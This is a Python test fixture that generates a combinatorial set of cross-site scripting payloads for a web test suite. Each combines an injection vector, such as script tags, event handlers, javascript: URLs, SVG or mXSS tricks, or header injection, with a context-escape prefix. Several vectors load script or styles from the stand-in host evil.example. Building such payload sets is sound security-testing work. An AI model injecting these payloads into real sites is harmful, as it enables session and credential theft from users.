"""Words that a stranger may write to have a script run: ways to run one, each put behind ways to get out.

Each calls `hit` with its number, asks for a picture from elsewhere, or both, so that whatever acts is seen
and says which it was. `python -m tests.web.payloads` prints them.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from typing import Final

_RUN: Final = "hit({n})"

_WAYS: Final = (
    "<script>{run}</script>",
    "<script src=//evil.example/{n}.js></script>",
    "<img src=x onerror={run}>",
    "<img src=//evil.example/{n}.png>",
    "<svg onload={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}/>#x'/></svg>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<a href=javascript:{run}>open</a>",
    "<a href='java\tscript:{run}'>open</a>",
    "<form action=javascript:{run}><button autofocus>go</button></form>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<object data=javascript:{run}></object>",
    "<embed src=//evil.example/{n}.swf>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<base href=//evil.example/{n}/>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import '//evil.example/{n}.css';*{{background:url(//evil.example/{n}.gif)}}</style>",
    "<p style='background:url(//evil.example/{n}.gif)' onmouseover={run}>over</p>",
    "<template shadowrootmode=open><img src=x onerror={run}></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    "<div hx-get=//evil.example/{n} hx-trigger=load hx-on:load={run} data-hx-on--load={run}>part</div>",
    "<div onclick={run} tabindex=1 autofocus onfocus={run} contenteditable>here</div>",
)
"""Ways to run a script, or to ask for something from elsewhere."""

_OUT: Final = (
    "{way}",
    '">{way}',
    "'>{way}",
    "`>{way}",
    "</textarea>{way}",
    "</title></style></script>{way}",
    "-->{way}<!--",
    "]]>{way}<![CDATA[",
    "</noscript></select></template>{way}",
    '\\"}}]}});{run}//{way}',
    '" onfocus={run} autofocus x="{way}',
    "' onfocus={run} autofocus x='{way}",
    "javascript:{run}//{way}",
    "data:text/html,{way}",
    "{{{{{run}}}}}{{% raw %}}{way}",
    "${{{run}}}#{{{run}}}{way}",
    "[{way}](javascript:{run})",
    "\r\nContent-Type: text/html\r\n\r\n{way}",
    "&lt;{way}&#60;&#x3c;",
    "\u202e\uff1cscript\uff1e\ufeff{way}",
)
"""Ways out of where the words stand: an attribute, an element, a comment, a script, an address."""


def payloads() -> tuple[str, ...]:
    """All of them, each different, in an order that does not change."""
    return tuple(_made())


def _made() -> Iterator[str]:
    for n, (out, way) in enumerate(itertools.product(_OUT, _WAYS)):
        run = _RUN.format(n=n)
        yield out.format(way=way.format(n=n, run=run), run=run)


def mark(n: int) -> tuple[str, str]:
    """The two pieces of which every payload holds one, that tell its number."""
    return _RUN.format(n=n), f"evil.example/{n}"


if __name__ == "__main__":
    for one in payloads():
        print(repr(one))
